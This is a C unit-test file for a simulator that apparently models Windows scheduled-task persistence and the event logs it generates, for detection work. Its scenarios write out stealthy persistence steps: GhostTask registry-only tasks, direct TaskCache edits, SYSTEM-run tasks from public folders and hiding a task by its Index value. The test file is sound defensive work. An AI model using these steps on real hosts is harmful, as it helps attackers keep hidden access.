static void test_sim_ghosttask_registry_only(void **state)
{
    (void)state;
    run r;
    assert_true(
        run_steps(&r,
                  "[{\"at\":0,\"user\":\"SYSTEM\",\"command\":\"C:\\\\Tools\\\\GhostTask.exe "
                  "localhost add lilghostie \\\"cmd.exe\\\" \\\"/c notepad.exe\\\" "
                  "DESKTOP-4E0BQFT\\\\alice logon\"}]",
                  NULL, have_shared() ? MODULAR : NULL));
    tl_task *t = tl_task_find(r.sim, "\\lilghostie");
    assert_non_null(t);
    assert_true(t->registry_only);
    char *data;
    size_t len;
    assert_int_equal(
        tl_sim_read_file(r.sim, "C:\\Windows\\System32\\Tasks\\lilghostie", &data, &len),
        TL_E_NOTFOUND);
    char key[300];
    snprintf(key, sizeof key, TL_TASKCACHE "\\Tasks\\%s", t->guid);
    tl_regval *av = regval(&r, key, "Actions");
    assert_non_null(av);
    int ver;
    char *ctx;
    tl_task_action *a;
    size_t n;
    assert_int_equal(tl_task_actions_parse(av->data, av->len, &ver, &ctx, &a, &n), TL_OK);
    assert_string_equal(a[0].command, "cmd.exe");
    assert_string_equal(a[0].arguments, "/c notepad.exe");
    tl_task_actions_free(a, n);
    tl_free(ctx);
    snprintf(key, sizeof key, TL_TASKCACHE "\\Plain\\%s", t->guid);
    assert_non_null(tl_reg_find(r.sim, key));
    if (have_shared()) /* non-svchost Actions writer: logged by sysmon-modular */
        assert_non_null(strstr(out(&r), "\\Actions</Data><Data Name='Details'>Binary Data"));
    run_free(&r);
}

#define TL_TASKCACHE_J                                                                     \
    "HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache"

static size_t count_sub(const char *hay, const char *needle)
{
    size_t n = 0;
    for (const char *p = strstr(hay, needle); p; p = strstr(p + 1, needle))
        n++;
    return n;
}

/* Issue 14: a registry-only task (GhostTask, or TaskCache values written by
 * reg import / registry steps) is not loaded by the Schedule service until it
 * restarts ({"restart": "Schedule"}) or the host reboots ({"reboot": true});
 * a trigger or logon before that runs nothing and is no error; after it the
 * service loads the task from TaskCache and runs what its Actions value says. */
static void test_sim_registry_only_tasks_load_on_restart(void **state)
{
    (void)state;
    run r;
    /* GhostTask: logon before the reboot runs nothing, logon after it runs the action */
    assert_true(run_steps(
        &r,
        "[{\"at\":0,\"user\":\"SYSTEM\",\"command\":\"C:\\\\Tools\\\\GhostTask.exe "
        "localhost add lilghostie \\\"cmd.exe\\\" \\\"/c notepad.exe\\\" "
        "DESKTOP-4E0BQFT\\\\alice logon\"},"
        "{\"at\":10,\"logon\":\"alice\"},{\"at\":20,\"trigger\":\"lilghostie\"},"
        "{\"at\":30,\"reboot\":true},{\"at\":40,\"logon\":\"alice\"}]",
        NULL, NULL));
    assert_int_equal(count_sub(out(&r), "<Data Name='CommandLine'>cmd.exe /c notepad.exe<"), 1);
    const char *run_at = strstr(out(&r), "<Data Name='CommandLine'>cmd.exe /c notepad.exe<");
    assert_non_null(strstr(run_at, "<Data Name='User'>DESKTOP-4E0BQFT\\alice<"));
    tl_task *t = tl_task_find(r.sim, "\\lilghostie");
    assert_non_null(t);
    assert_true(t->registry_only);
    assert_false(t->unloaded);
    run_free(&r);

    /* TaskCache values alone (as reg import writes them): a trigger before the
     * restart runs nothing (no "no task" error); after it the task runs as SYSTEM */
    tl_task_action act = {0, NULL, (char *)"C:\\Users\\Public\\imp.exe", (char *)"-q", NULL};
    unsigned char *blob = NULL;
    size_t blen = 0;
    assert_int_equal(tl_task_actions_blob("LocalSystem", &act, 1, 3, &blob, &blen), TL_OK);
    tl_buf hex = TL_BUF_INIT, steps = TL_BUF_INIT;
    for (size_t i = 0; i < blen; i++)
        tl_buf_printf(&hex, "%02x ", blob[i]);
    tl_free(blob);
    const char *g = "{6D1C3A33-1B0C-4C9E-9D6F-2A1B3C4D5E6F}";
    tl_buf_printf(
        &steps,
        "[{\"at\":0,\"user\":\"SYSTEM\",\"registry\":{\"op\":\"set_value\",\"key\":\"" TL_TASKCACHE_J
        "\\\\Tree\\\\imp\",\"value\":\"Id\",\"data\":\"%s\"}},"
        "{\"at\":1,\"user\":\"SYSTEM\",\"registry\":{\"op\":\"set_value\",\"key\":\"" TL_TASKCACHE_J
        "\\\\Tasks\\\\%s\",\"value\":\"Actions\",\"type\":\"REG_BINARY\",\"data\":\"%s\"}},"
        "{\"at\":5,\"trigger\":\"imp\"},{\"at\":10,\"restart\":\"Schedule\"},"
        "{\"at\":20,\"trigger\":\"\\\\imp\"}]",
        g, g, tl_buf_cstr(&hex));
    assert_true(run_steps(&r, tl_buf_cstr(&steps), NULL, NULL));
    assert_int_equal(count_sub(out(&r), "C:\\Users\\Public\\imp.exe -q<"), 1);
    /* the restarted service is a new svchost (a child of services.exe); the old one ended */
    const tl_proc *svc = &r.sim->procs[r.sim->schedule_svc];
    assert_int_equal(svc->parent, r.sim->services_exe);
    assert_false(svc->exited);
    size_t ended = 0;
    for (size_t i = 0; i < r.sim->nprocs; i++)
        ended += r.sim->procs[i].exited &&
                 !strcmp(r.sim->procs[i].cmdline, svc->cmdline);
    assert_int_equal(ended, 1);
    t = tl_task_find(r.sim, "\\imp");
    assert_non_null(t);
    assert_true(t->registry_only);
    assert_string_equal(t->guid, g);
    run_free(&r);
    tl_buf_free(&hex);
    tl_buf_free(&steps);

    /* the new step kinds are checked by the loader */
    char *j = scen_json("[{\"at\":0,\"restart\":\"Spooler\"}]", NULL);
    expect_load_error(j, "$.steps[0].restart: the service that restarts must be \"Schedule\"");
    tl_free(j);
    j = scen_json("[{\"at\":0,\"reboot\":false}]", NULL);
    expect_load_error(j, "$.steps[0].reboot: must be true");
    tl_free(j);
}

/* Issue 14: at.exe by build (evasion.md 2.3). Windows 7 creates the job (task
 * \At1, a weekly CalendarTrigger); Windows 10 refuses it (exit 1, no task)
 * unless EnableAt=1 was set before a reboot; a user without elevation is denied. */
static void test_sim_at_by_build(void **state)
{
    (void)state;
    run r;
    const char *at = "{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"at 09:00 "
                     "/every:M,W,F C:\\\\Users\\\\Public\\\\svc.exe -x\"}";
    char steps[2048];
    snprintf(steps, sizeof steps, "[%s]", at);
    assert_true(run_steps(&r, steps, ",\"os_build\":\"6.1.7601\"", NULL));
    tl_task *t = tl_task_find(r.sim, "\\At1");
    assert_non_null(t);
    assert_string_equal(t->actions[0].command, "C:\\Users\\Public\\svc.exe");
    assert_string_equal(t->actions[0].arguments, "-x");
    assert_string_equal(t->user_id, "S-1-5-18");
    assert_non_null(strstr(t->xml, "<Monday"));
    assert_non_null(strstr(t->xml, "<Friday"));
    assert_null(strstr(t->xml, "<Tuesday"));
    /* the scenario starts at 11:59:41: the next 09:00 is the next day */
    assert_non_null(strstr(t->xml, "<StartBoundary>2022-04-14T09:00:00</StartBoundary>"));
    run_free(&r);

    /* Windows 10: deprecated, no task */
    assert_true(run_steps(&r, steps, NULL, NULL));
    assert_null(tl_task_find(r.sim, "\\At1"));
    run_free(&r);

    /* Windows 10 with EnableAt=1: only after a reboot */
    snprintf(steps, sizeof steps,
             "[{\"at\":0,\"user\":\"SYSTEM\",\"registry\":{\"op\":\"set_value\",\"key\":"
             "\"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Schedule\\\\"
             "Configuration\",\"value\":\"EnableAt\",\"type\":\"REG_DWORD\",\"data\":1}},"
             "{\"at\":1,\"user\":\"alice\",\"elevated\":true,\"command\":\"at 10:00 notepad.exe\"},"
             "{\"at\":5,\"reboot\":true},"
             "{\"at\":9,\"user\":\"alice\",\"elevated\":true,\"command\":\"at 10:00 notepad.exe\"},"
             "{\"at\":10,\"user\":\"alice\",\"command\":\"at 11:00 calc.exe\"}]");
    assert_true(run_steps(&r, steps, NULL, NULL));
    t = tl_task_find(r.sim, "\\At1");
    assert_non_null(t);
    assert_string_equal(t->actions[0].command, "notepad.exe");
    assert_non_null(strstr(t->xml, "<TimeTrigger>"));
    assert_null(tl_task_find(r.sim, "\\At2")); /* not elevated: access is denied */
    run_free(&r);
}

static void test_sim_security_and_taskscheduler_channels(void **state)
{
    (void)state;
    run r;
    assert_true(
        run_steps(&r,
                  "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
                  "/create /tn t1 /tr calc.exe /sc onlogon /ru SYSTEM\"},{\"at\":2,\"user\":"
                  "\"alice\",\"elevated\":true,\"command\":\"schtasks /delete /tn t1 /f\"}]",
                  ",\"channels\":{\"security\":true,\"taskscheduler\":true}", NULL));
    const char *o = out(&r);
    assert_non_null(strstr(o, "<EventID>4698</EventID>"));
    assert_non_null(strstr(o, "<EventID>4699</EventID>"));
    assert_non_null(strstr(o, "<Data Name='TaskName'>\\t1</Data>"));
    assert_non_null(
        strstr(o, "<Data Name='TaskContent'>&lt;?xml version=\"1.0\" encoding=\"UTF-16\"?&gt;"));
    assert_non_null(strstr(o, "<Keywords>0x8020000000000000</Keywords>"));
    assert_non_null(strstr(o, "<EventID>106</EventID>"));
    assert_non_null(strstr(o, "<EventID>141</EventID>"));
    run_free(&r);
}

static void test_sim_x86_domain_endpoint(void **state)
{
    (void)state;
    run r;
    assert_true(run_steps(&r,
                          "[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
                          "/create /tn d1 /tr calc.exe /sc onlogon /ru CORP\\\\bob\"}]",
                          ",\"arch\":\"x86\",\"domain\":\"corp.example.com\"", NULL));
    assert_string_equal(tl_sim_agent_dir(r.sim), "C:\\Program Files\\ossec-agent");
    tl_regval *v =
        regval(&r, "HKLM\\HARDWARE\\DESCRIPTION\\System\\CentralProcessor\\0", "Identifier");
    assert_non_null(v);
    assert_non_null(strstr((const char *)v->data, "x86"));
    assert_non_null(strstr(out(&r), "<Computer>DESKTOP-4E0BQFT.corp.example.com</Computer>"));
    assert_non_null(strstr(out(&r), "<Data Name='User'>CORP\\alice</Data>"));
    tl_task *t = tl_task_find(r.sim, "\\d1");
    assert_non_null(t);
    assert_string_equal(t->user_id, r.sim->users[2].sid);
    run_free(&r);
}

static void test_sim_registry_and_file_steps(void **state)
{
    (void)state;
    run r;
    assert_true(
        run_steps(&r,
                  "[{\"at\":0,\"user\":\"alice\",\"registry\":{\"op\":\"set_value\",\"key\":"
                  "\"HKCU\\\\Software\\\\ATOMIC\",\"value\":\"test\",\"type\":\"REG_SZ\","
                  "\"data\":\"cGluZw==\"}},{\"at\":1,\"user\":\"SYSTEM\",\"registry\":{\"op\":"
                  "\"set_value\",\"key\":\"hkey_local_machine\\\\software\\\\microsoft\\\\"
                  "windows nt\\\\currentversion\\\\schedule\\\\taskcache\\\\tree\\\\Microsoft"
                  "\\\\Windows\\\\UpdateOrchestrator\\\\Schedule Scan\",\"value\":\"Index\","
                  "\"type\":\"REG_DWORD\",\"data\":0}}]",
                  NULL, have_shared() ? MODULAR : NULL));
    char key[300];
    snprintf(key, sizeof key, "HKU\\%s\\Software\\ATOMIC", r.sim->users[1].sid);
    tl_regval *v = regval(&r, key, "test");
    assert_non_null(v);
    assert_string_equal((const char *)v->data, "cGluZw==");
    /* stored casing is kept in TargetObject */
    if (have_shared())
        assert_non_null(strstr(out(&r),
                               "<Data Name='TargetObject'>HKLM\\SOFTWARE\\Microsoft\\"
                               "Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\"
                               "Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan\\Index"
                               "</Data><Data Name='Details'>DWORD (0x00000000)</Data>"));
    assert_false(tl_task_visible(
        r.sim, tl_task_find(r.sim, "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan")));
    run_free(&r);
}

static void test_sim_argv_rules(void **state)
{
    (void)state;
    static const struct {
        const char *in;
        const char *out[6];
    } cs[] = {
        {"schtasks /tr \"C:\\a b\\c.exe \\\"x\\\"\" /f",
         {"schtasks", "/tr", "C:\\a b\\c.exe \"x\"", "/f"}},
        {"\"C:\\Program Files\\x.exe\" a\\\\\\\"b c", {"C:\\Program Files\\x.exe", "a\\\"b", "c"}},
        {"x a\\\\\\\\\"b c\" d", {"x", "a\\\\b c", "d"}},
        {"x \"\" \"a\"\"b\"", {"x", "", "a\"b"}},
        {"x C:\\dir\\ \"y\"", {"x", "C:\\dir\\", "y"}},
    };
    for (size_t i = 0; i < sizeof cs / sizeof cs[0]; i++) {
        char **v;
        size_t n;
        assert_int_equal(tl_argv_split(cs[i].in, &v, &n), TL_OK);
        size_t want = 0;
        while (want < 6 && cs[i].out[want])
            want++;
        assert_int_equal(n, want);
        for (size_t k = 0; k < n; k++)
            assert_string_equal(v[k], cs[i].out[k]);
        /* quoting round trip */
        for (size_t k = 1; k < n; k++) {
            char *q = tl_argv_quote(v[k]);
            tl_buf b = TL_BUF_INIT;
            tl_buf_printf(&b, "x %s", q);
            char **v2;
            size_t n2;
            assert_int_equal(tl_argv_split(tl_buf_cstr(&b), &v2, &n2), TL_OK);
            assert_int_equal(n2, 2);
            assert_string_equal(v2[1], v[k]);
            tl_argv_free(v2, n2);
            tl_buf_free(&b);
            tl_free(q);
        }
        tl_argv_free(v, n);
    }
}

/* The record stream does not depend on how the caller interleaves steps and
 * pops: "run a step, drain" and "run all steps, then drain" give the same bytes. */
static void test_sim_stream_independent_of_interleaving(void **state)
{
    (void)state;
    char *j = scen_json("[{\"at\":0,\"noise\":{\"events\":3000,\"duration\":20}},{\"at\":5,"
                        "\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /create /tn "
                        "i1 /tr calc.exe /sc onlogon /ru SYSTEM\"},{\"at\":5,\"user\":\"SYSTEM\","
                        "\"registry\":{\"op\":\"create_key\",\"key\":\"HKLM\\\\SOFTWARE\\\\"
                        "Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache"
                        "\\\\Tree\\\\Microsoft\\\\Windows\\\\UpdateOrchestrator\"}},{\"at\":6,"
                        "\"noise\":{\"events\":300,\"duration\":3}}]",
                        ",\"channels\":{\"security\":true}");
    tl_buf out[2] = {TL_BUF_INIT, TL_BUF_INIT};
    for (int mode = 0; mode < 2; mode++) {
        tl_diag d;
        tl_scenario *sc = load_str(j, &d);
        tl_sim_opts o = {ETC, NULL, NULL, NULL};
        tl_sim *s = NULL;
        assert_int_equal(tl_sim_new(sc, &o, &s, &d), TL_OK);
        tl_record r;
        tl_time last = 0;
        for (size_t i = 0; i < tl_sim_step_count(s); i++) {
            assert_int_equal(tl_sim_run_step(s, i, &d), TL_OK);
            while (mode == 0 && tl_sim_next_record(s, &r)) {
                tl_buf_puts(&out[mode], r.xml);
                assert_true(r.time >= last);
                last = r.time;
            }
        }
        while (tl_sim_next_record(s, &r)) {
            tl_buf_puts(&out[mode], r.xml);
            assert_true(r.time >= last);
            last = r.time;
        }
        tl_sim_free(s);
        tl_scenario_free(sc);
    }
    assert_true(out[0].len > 10000);
    assert_string_equal(tl_buf_cstr(&out[0]), tl_buf_cstr(&out[1]));
    tl_buf_free(&out[0]);
    tl_buf_free(&out[1]);
    tl_free(j);
}

static void test_sim_noise_is_fast_and_ordered(void **state)
{
    (void)state;
    char *j =
        scen_json("[{\"at\":0,\"noise\":{\"events\":100000,\"duration\":600}},{\"at\":300,"
                  "\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks /create /tn n1 "
                  "/tr calc.exe /sc onlogon /ru System\"}]",
                  NULL);
    tl_diag d;
    tl_scenario *sc = load_str(j, &d);
    tl_free(j);
    tl_sim_opts o = {ETC, NULL, have_shared() ? MODULAR : NULL, NULL};
    tl_sim *s = NULL;
    assert_int_equal(tl_sim_new(sc, &o, &s, &d), TL_OK);
    clock_t c0 = clock();
    tl_time last = 0;
    unsigned long long lastid = 0, n = 0, step1 = 0;
    for (size_t i = 0; i < 2; i++) {
        assert_int_equal(tl_sim_run_step(s, i, &d), TL_OK);
        tl_record r;
        while (tl_sim_next_record(s, &r)) {
            assert_true(r.time >= last);
            last = r.time;
            const char *p = strstr(r.xml, "<EventRecordID>");
            unsigned long long id = strtoull(p + 15, NULL, 10);
            assert_true(id > lastid);
            lastid = id;
            n++;
            if (r.step == 1)
                step1++;
            if (i == 0)
                assert_true(r.time < tl_sim_step_time(s, 1)); /* released up to the next step */
        }
    }
    double secs = (double)(clock() - c0) / CLOCKS_PER_SEC;
    print_message("noise: %llu records logged of 100000 raw events in %.2f s\n", n, secs);
    assert_true(n > 1000);
    assert_true(step1 >= 1);
    if (!getenv("TL_SLOW")) /* valgrind / sanitizers */
        assert_true(secs < 5.0);
    tl_sim_free(s);
    tl_scenario_free(sc);
}

static void test_sim_drive_c_mirror_merges_case_insensitively(void **state)
{
    (void)state;
    char dir[] = "/tmp/tl_sim_drivec_XXXXXX";
    assert_non_null(mkdtemp(dir));
    char pre[600];
    snprintf(pre, sizeof pre, "%s/windows/system32", dir);
    assert_int_equal(tl_mkdirs(pre, NULL), TL_OK);
    char *j = scen_json("[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
                        "/create /tn test-task /tr calc.exe /sc onlogon /ru System /f\"}]",
                        NULL);
    tl_diag d;
    tl_scenario *sc = load_str(j, &d);
    tl_free(j);
    tl_sim_opts o = {ETC, NULL, NULL, dir};
    tl_sim *s = NULL;
    assert_int_equal(tl_sim_new(sc, &o, &s, &d), TL_OK);
    assert_int_equal(tl_sim_run_step(s, 0, &d), TL_OK);
    char p[700];
    snprintf(p, sizeof p, "%s/windows/system32/Tasks/test-task", dir);
    struct stat sb;
    assert_int_equal(stat(p, &sb), 0);
    assert_true(sb.st_size > 100);
    assert_int_equal(
        tl_sim_append_file(s, "C:\\Program Files (x86)\\ossec-agent\\logs\\x.log", "a\n", 2),
        TL_OK);
    assert_int_equal(
        tl_sim_append_file(s, "C:\\Program Files (x86)\\ossec-agent\\logs\\x.log", "b\n", 2),
        TL_OK);
    snprintf(p, sizeof p, "%s/Program Files (x86)/ossec-agent/logs/x.log", dir);
    char *data;
    size_t len;
    assert_int_equal(tl_file_read(p, &data, &len, NULL), TL_OK);
    assert_string_equal(data, "a\nb\n");
    tl_free(data);
    char dir2[] = "/tmp/tl_sim_mat_XXXXXX";
    assert_non_null(mkdtemp(dir2));
    assert_int_equal(tl_sim_materialize(s, dir2, &d), TL_OK);
    snprintf(p, sizeof p, "%s/Windows/System32/Tasks/test-task", dir2);
    assert_int_equal(stat(p, &sb), 0);
    tl_sim_free(s);
    tl_scenario_free(sc);
}

static void test_sim_reference_configs_skip_without_shared(void **state)
{
    (void)state;
    char *j = scen_json("[]", ",\"sysmon_config\":\"swiftonsecurity\"");
    tl_diag d;
    tl_scenario *sc = load_str(j, &d);
    tl_free(j);
    tl_sim_opts o = {ETC, "/nonexistent/shared", NULL, NULL};
    tl_sim *s = NULL;
    assert_int_equal(tl_sim_new(sc, &o, &s, &d), TL_E_NOTFOUND);
    assert_null(s);
    if (have_shared()) {
        o.shared_dir = TL_SHARED_DIR;
        assert_int_equal(tl_sim_new(sc, &o, &s, &d), TL_OK);
        tl_sim_free(s);
    }
    tl_scenario_free(sc);
}

/* Every allocation failure surfaces as TL_E_NOMEM (or is absorbed) and never
 * crashes; run under ASan/valgrind this also proves no leak on error paths. */
static tl_status seed_once(const char *json, int run_sim)
{
    tl_diag d;
    tl_scenario *sc = NULL;
    tl_status st = tl_scenario_load_mem("scenarios/t.json", json, strlen(json), &sc, &d);
    if (st != TL_OK || !run_sim) {
        tl_scenario_free(sc);
        return st;
    }
    tl_sim_opts o = {ETC, NULL, NULL, NULL};
    tl_sim *s = NULL;
    st = tl_sim_new(sc, &o, &s, &d);
    for (size_t i = 0; st == TL_OK && i < tl_sim_step_count(s); i++) {
        st = tl_sim_run_step(s, i, &d);
        tl_record r;
        while (st == TL_OK && tl_sim_next_record(s, &r))
            ;
    }
    tl_sim_free(s);
    tl_scenario_free(sc);
    return st;
}

static void test_sim_alloc_fail_is_nomem(void **state)
{
    (void)state;
    char *j =
        scen_json("[{\"at\":0,\"user\":\"alice\",\"elevated\":true,\"command\":\"schtasks "
                  "/create /tn test-task /tr \\\"C:\\\\Windows\\\\System32\\\\calc.exe\\\" "
                  "/sc onlogon /ru System /f & reg add HKCU\\\\Software\\\\x /v a /d b /f\"},"
                  "{\"at\":1,\"noise\":{\"events\":20,\"duration\":2}},{\"at\":2,\"user\":"
                  "\"alice\",\"elevated\":true,\"parent\":\"C:\\\\Windows\\\\System32\\\\"
                  "WindowsPowerShell\\\\v1.0\\\\powershell.exe\",\"command\":\"$a = "
                  "New-ScheduledTaskAction -Execute x.exe; Register-ScheduledTask -TaskName p "
                  "-Action $a -Force\"}]",
                  ",\"channels\":{\"security\":true,\"taskscheduler\":true}");
    for (int phase = 0; phase < 2; phase++) {
        tl_alloc_fail_at(0);
        assert_int_equal(seed_once(j, phase), TL_OK);
        long total = tl_alloc_count();
        long stride = phase == 0 ? 1 : total / 300 + 1;
        for (long n = 1; n <= total; n += stride) {
            tl_alloc_fail_at(n);
            tl_status st = seed_once(j, phase);
            tl_alloc_fail_at(0);
            if (st != TL_OK && st != TL_E_NOMEM) {
                print_error("allocation %ld of %ld: status %d\n", n, total, st);
                fail();
            }
        }
    }
    tl_free(j);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_sim_scenario_errors_name_json_path),
        cmocka_unit_test(test_sim_scenario_seed_accessors),
        cmocka_unit_test(test_sim_steps_run_in_time_order),
        cmocka_unit_test(test_sim_seed_yields_blog_event12),
        cmocka_unit_test(test_sim_update_orchestrator_seed),
        cmocka_unit_test(test_sim_same_seed_same_bytes),
        cmocka_unit_test(test_sim_threat_command_lines_register_tasks),
        cmocka_unit_test(test_sim_schtasks_schedule_types_map_to_triggers),
        cmocka_unit_test(test_sim_powershell_parent_loads_taskschd_once),
        cmocka_unit_test(test_sim_cmd_child_has_double_space_and_syswow64),
        cmocka_unit_test(test_sim_windir_casing),
        cmocka_unit_test(test_sim_invalid_command_lines_are_step_errors),
        cmocka_unit_test(test_sim_runtime_refusals_change_nothing),
        cmocka_unit_test(test_sim_schtasks_xml_doctype_refused),
        cmocka_unit_test(test_sim_schtasks_unicode_case_folded),
        cmocka_unit_test(test_sim_delete_change_disable),
        cmocka_unit_test(test_sim_tarrask_and_index_hiding),
        cmocka_unit_test(test_sim_lokibot_silentcleanup_runs_elevated),
        cmocka_unit_test(test_sim_shell_open_and_run_level),
        cmocka_unit_test(test_sim_logon_step_fires_logon_tasks),
        cmocka_unit_test(test_sim_trigger_step_and_win7_taskeng),
        cmocka_unit_test(test_sim_taskscheduler_run_events),
        cmocka_unit_test(test_sim_powershell_unknown_switch_and_member),
        cmocka_unit_test(test_sim_ghosttask_registry_only),
        cmocka_unit_test(test_sim_registry_only_tasks_load_on_restart),
        cmocka_unit_test(test_sim_at_by_build),
        cmocka_unit_test(test_sim_security_and_taskscheduler_channels),
        cmocka_unit_test(test_sim_x86_domain_endpoint),
        cmocka_unit_test(test_sim_registry_and_file_steps),
        cmocka_unit_test(test_sim_argv_rules),
        cmocka_unit_test(test_sim_stream_independent_of_interleaving),
        cmocka_unit_test(test_sim_noise_is_fast_and_ordered),
        cmocka_unit_test(test_sim_drive_c_mirror_merges_case_insensitively),
        cmocka_unit_test(test_sim_reference_configs_skip_without_shared),
        cmocka_unit_test(test_sim_alloc_fail_is_nomem),
    };
    return cmocka_run_group_tests_name("sim", tests, NULL, NULL);
}
